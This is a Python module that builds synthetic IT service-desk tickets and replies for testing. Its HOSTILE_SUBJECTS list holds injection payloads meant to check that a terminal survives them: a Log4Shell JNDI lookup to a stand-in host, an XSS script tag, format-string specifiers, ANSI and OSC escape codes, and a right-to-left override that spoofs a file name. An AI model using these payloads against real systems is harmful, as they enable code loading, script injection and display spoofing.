"""What people write to an IT service desk, and what it writes back."""

from __future__ import annotations

from collections.abc import Mapping, Sequence
from dataclasses import dataclass
from random import Random
from string import Formatter


@dataclass(frozen=True, slots=True)
class Topic:
    """One kind of ticket."""

    key: str
    kind: str
    """Zendesk's ticket type: incident, question or task."""
    team: str
    weight: int
    subjects: tuple[str, ...]
    body: str
    urgency: int = 0
    """1 makes high priorities likelier, -1 low ones."""


TOPICS: Sequence[Topic] = (
    Topic(
        "vpn",
        "incident",
        "Infrastructure",
        9,
        (
            "VPN drops every {few} minutes",
            "Cannot connect to VPN from home",
            "VPN asks for password again and again",
            "VPN very slow since {day}",
            "VPN client error {code} on {laptop}",
        ),
        "I work from home today and cannot get at the shared drives.",
        1,
    ),
    Topic(
        "printing",
        "incident",
        "Service Desk",
        9,
        (
            "Printer {printer} prints blank pages",
            "Printer {printer} offline",
            "Cannot print labels in {place}",
            "Paper jam message on {printer} but no paper stuck",
            "Scan to e-mail stopped working on {printer}",
        ),
        "Tried switching it off and on. The others here have the same.",
    ),
    Topic(
        "starter",
        "task",
        "Service Desk",
        6,
        (
            "New starter {day}: {person}, {department}",
            "Laptop and account for {person} ({department})",
            "Onboarding: {person} joins {department} on {day}",
        ),
        "Please set up account, mailbox, laptop and building pass, with the access the team has.",
        -1,
    ),
    Topic(
        "leaver",
        "task",
        "Service Desk",
        4,
        ("Leaver: {person}, last day {day}", "Please close the account of {person} ({department})"),
        "Mailbox to be forwarded to the line manager for 30 days.",
        -1,
    ),
    Topic(
        "mailbox",
        "task",
        "Service Desk",
        8,
        (
            "Access to shared mailbox {mailbox}",
            "Shared mailbox {mailbox} not showing in Outlook",
            "Please add {person} to distribution list {mailbox}",
            "Calendar permissions for {person}",
        ),
        "Approved by my manager, see below.",
    ),
    Topic(
        "mfa",
        "incident",
        "Service Desk",
        9,
        (
            "New phone, MFA codes not working",
            "Locked out after MFA prompt",
            "Authenticator app asks for a code I do not have",
            "MFA text message never arrives",
            "Cannot sign in: account locked",
        ),
        "I cannot sign in to anything at the moment. You can reach me on my mobile.",
        1,
    ),
    Topic(
        "erp",
        "incident",
        "Applications",
        9,
        (
            "ERP report {report} shows wrong totals",
            "ERP: cannot post invoice {invoice}",
            "ERP very slow when opening orders",
            "ERP report {report} times out",
            "Stock level for item {item} differs between ERP and warehouse",
            "ERP licence error for {department}",
        ),
        "Screenshot attached. It worked last week.",
        1,
    ),
    Topic(
        "wifi",
        "incident",
        "Infrastructure",
        6,
        (
            "Wi-Fi in {place} keeps dropping",
            "No Wi-Fi on scanners in {place}",
            "Guest Wi-Fi voucher does not work",
            "{laptop} does not see the office Wi-Fi",
        ),
        "It started this morning. Several of us are affected.",
        1,
    ),
    Topic(
        "laptop",
        "incident",
        "Service Desk",
        9,
        (
            "{laptop} very slow after update",
            "Laptop {laptop} does not start",
            "Docking station does not detect second screen",
            "Battery of {laptop} lasts 20 minutes",
            "Blue screen on {laptop}, stop code {code}",
            "Keyboard on {laptop} misses letters",
        ),
        "I have restarted twice.",
    ),
    Topic(
        "software",
        "question",
        "Service Desk",
        7,
        (
            "Please install {software} on {laptop}",
            "{software} licence expired",
            "{software} crashes when saving",
            "Which version of {software} should we use?",
        ),
        "Needed for a customer project, no great hurry.",
        -1,
    ),
    Topic(
        "folder",
        "task",
        "Service Desk",
        6,
        (
            "Access to folder {folder}",
            "Restore deleted file from {folder}",
            "Cannot open files in {folder}: access denied",
            "Share {folder} with our auditor",
        ),
        "I had access before the move.",
    ),
    Topic(
        "phone",
        "incident",
        "Infrastructure",
        5,
        (
            "Desk phone {extension} has no dial tone",
            "Calls to {extension} go straight to voicemail",
            "Headset not recognised in softphone",
            "Please change name on extension {extension}",
        ),
        "Customers cannot reach us on this number.",
    ),
    Topic(
        "security",
        "incident",
        "Infrastructure",
        4,
        (
            "Suspicious e-mail: parcel waiting",
            "Clicked on a link in an odd e-mail",
            "Phishing? Request to change bank details",
            "Virus warning on {laptop}",
        ),
        "Please have a look before I touch anything.",
        1,
    ),
    Topic(
        "mobile",
        "task",
        "Service Desk",
        4,
        (
            "New work phone for {person}",
            "Work phone does not sync mail",
            "Lost phone, please wipe",
            "Roaming for {person}, travelling on {day}",
        ),
        "Let me know what you need from me.",
    ),
    Topic(
        "change",
        "task",
        "Infrastructure",
        3,
        (
            "Firewall rule for supplier portal",
            "DNS entry for {mailbox} landing page",
            "Move {printer} from {place}",
            "Extra network sockets in {place}",
        ),
        "Please quote and plan.",
        -1,
    ),
    Topic(
        "report",
        "question",
        "Applications",
        4,
        (
            "New column in report {report}",
            "How do I export {report} to Excel?",
            "Access to dashboard {report} for {person}",
        ),
        "For the month-end close.",
        -1,
    ),
)

ONBOARDING: Sequence[Topic] = (
    Topic(
        "transition",
        "task",
        "Infrastructure",
        10,
        (
            "Take-over: administrator access to {system}",
            "Take-over: inventory of {place}",
            "Take-over: monitoring agent on {laptop}",
            "Take-over: documentation for {system}",
            "Take-over: vendor contact for {system}",
        ),
        "Part of the take-over plan.",
        -1,
    ),
)

APPROVALS: Sequence[str] = (
    "Approval: {count} laptops for {department}",
    "Approval: {software} licences for {department}",
    "Approval: extra storage for {folder}",
    "Approval: replacement of {printer}",
    "Approval: firewall renewal",
    "Approval: out-of-hours work on {system}",
)

_FILLERS: Mapping[str, Sequence[str]] = {
    "few": ("5", "10", "15", "20", "45"),
    "day": ("Monday", "Tuesday", "Wednesday", "Thursday", "Friday", "the 1st", "next week"),
    "code": ("809", "691", "0x80070035", "0x7B", "1603", "619"),
    "printer": ("PRN-LDS-02", "PRN-LDS-05", "PRN-LON-11", "PRN-BRS-01", "PRN-WH-07", "PRN-HR-01"),
    "place": (
        "Leeds depot",
        "Leeds goods-in",
        "London office",
        "London meeting room 3",
        "Bristol office",
        "the canteen",
        "the packing hall",
    ),
    "department": ("Finance", "Sales", "Warehouse", "Purchasing", "Marketing", "HR", "Operations"),
    "person": (
        "A. Fielding",
        "M. Nowak",
        "J. Hartley",
        "S. Bhatt",
        "T. Byrne",
        "L. Zhang",
        "O. Pritchard",
        "C. Iqbal",
        "R. Moss",
        "E. Walsh",
    ),
    "mailbox": ("orders@", "accounts@", "careers@", "claims@", "quality@", "events@", "returns@"),
    "report": ("AR-114", "STK-20", "Margin by customer", "Open orders", "VAT summary", "GL-07"),
    "software": ("Adobe Acrobat", "AutoCAD LT", "Visio", "Power BI", "7-Zip", "SnagIt", "Project"),
    "folder": (
        "Finance/Year end",
        "HR/Private",
        "Sales/Tenders",
        "Quality/Audits",
        "Projects/Atlas",
    ),
    "system": ("the firewall", "the backup", "the ERP server", "the phone system", "the domain"),
    "count": ("2", "3", "4", "6", "12"),
}

_TEAM_QUESTIONS = (
    "Could you tell me which laptop this is, and since when it happens?",
    "Can you try again now and let me know whether it works?",
    "Which of your colleagues have the same problem?",
    "May I connect to your computer this afternoon? Please name a time.",
    "Could you send a screenshot of the message?",
    "Does it also happen on the office network?",
    "Who is the owner of that folder, and do they agree?",
)
_TEAM_UPDATES = (
    "We are looking into it and will come back to you today.",
    "Found the cause in the event log, working on a fix.",
    "We have asked the vendor for a patch.",
    "The part is ordered, delivery is expected in two days.",
    "We have changed a setting on our side and keep an eye on it.",
    "A colleague from the second line has taken this on.",
)
_TEAM_SOLUTIONS = (
    "This is done. Please restart once for it to take effect.",
    "We have reset the profile, it works again in our test.",
    "Access has been granted.",
    "The driver was replaced and a test page printed.",
    "The account is unlocked and the new phone is registered.",
    "Fixed with last night's change.",
    "Set up as asked; the details went to you separately.",
)
_TEAM_NOTES = (
    "Event log shows timeouts towards the gateway.",
    "Checked licence pool, two seats left.",
    "Called the user, no answer.",
    "Same symptom as earlier this week, linked in the knowledge base.",
    "Handed over at shift change, profile rebuild in progress.",
    "Vendor case opened.",
    "Tested with a second account, works there.",
)
_TEAM_PARKED = ("Parking this until the next window.", "Left on pending, will pick up later.")
_TEAM_FIRST = (
    "Thank you, I have picked this up and am looking at it now.",
    "I can see the fault from here and have started on it.",
    "Thanks for the details, that helps. I am on it.",
    "I have reproduced it and will keep you posted.",
)
_USER_ANSWERS = (
    "It is the one on my desk, the number is on the label. Since Monday.",
    "Tried again, same thing.",
    "Yes, three others here have it too.",
    "Any time after two is fine.",
    "Here is the screenshot.",
    "Only at home, the office is fine.",
    "Works now, thank you.",
)
_USER_CHASERS = (
    "Is there any news on this?",
    "Still the same here. When can we expect this to work?",
    "This holds us up, can somebody look at it?",
)
_USER_AGAIN = (
    "Sorry, it is back again this morning.",
    "It worked for a day and now it is the same.",
)

ACKNOWLEDGEMENT = (
    "Thank you for contacting the service desk. Your request has been received and will be dealt "
    "with as soon as possible. This is an automatic message."
)

TEXTS: Mapping[str, Sequence[str]] = {
    "question": _TEAM_QUESTIONS,
    "update": _TEAM_UPDATES,
    "solution": _TEAM_SOLUTIONS,
    "note": _TEAM_NOTES,
    "parked": _TEAM_PARKED,
    "first": _TEAM_FIRST,
    "answer": _USER_ANSWERS,
    "chaser": _USER_CHASERS,
    "again": _USER_AGAIN,
}

HOSTILE_SUBJECTS: Sequence[str] = (
    "[red]URGENT[/red] [link=https://bad.example]invoice portal[/] shows [/] in every row",
    "Printer says \x1b[31mERROR\x1b[0m\x1b]0;owned\x07 and beeps",
    "Re: Re: \u202egnp.eciovni\u202c cannot be opened",
    "会議室のWi-Fiに接続できません（3階）",
    "Scanner 🏷️ on shift 👩‍🏭 cannot find the 🛜, Größe unbekannt, naïve café test",
    "Fwd: " + "FW: RE: " * 60 + "old thread about the printer in the corridor " + "x" * 180,
    "{ 'subject': '${jndi:ldap://x.example/a}' } %s %n <script>alert(1)</script>",
    "Out\r\nof\tpaper\x00 \x08\x08\x08 tray 2",
)
"""Subjects that a terminal must survive."""


def fill(rng: Random, template: str) -> str:
    """Return ``template`` with its gaps filled in plausibly."""
    if "{" not in template:
        return template
    return template.format_map(
        {name: _filler(rng, name) for _, name, _, _ in Formatter().parse(template) if name}
    )


def _filler(rng: Random, name: str) -> str:
    if name == "laptop":
        return f"LT-{rng.randrange(101, 420):04d}"
    if name == "extension":
        return str(rng.randrange(2010, 2190))
    if name == "invoice":
        return f"INV-{rng.randrange(20500, 48900)}"
    if name == "item":
        return f"{rng.randrange(100, 999)}-{rng.randrange(10, 99)}"
    return rng.choice(_FILLERS[name])


def say(rng: Random, kind: str) -> str:
    """Return something that is said at such a moment; ``kind`` is a key of :data:`TEXTS`."""
    return rng.choice(TEXTS[kind])
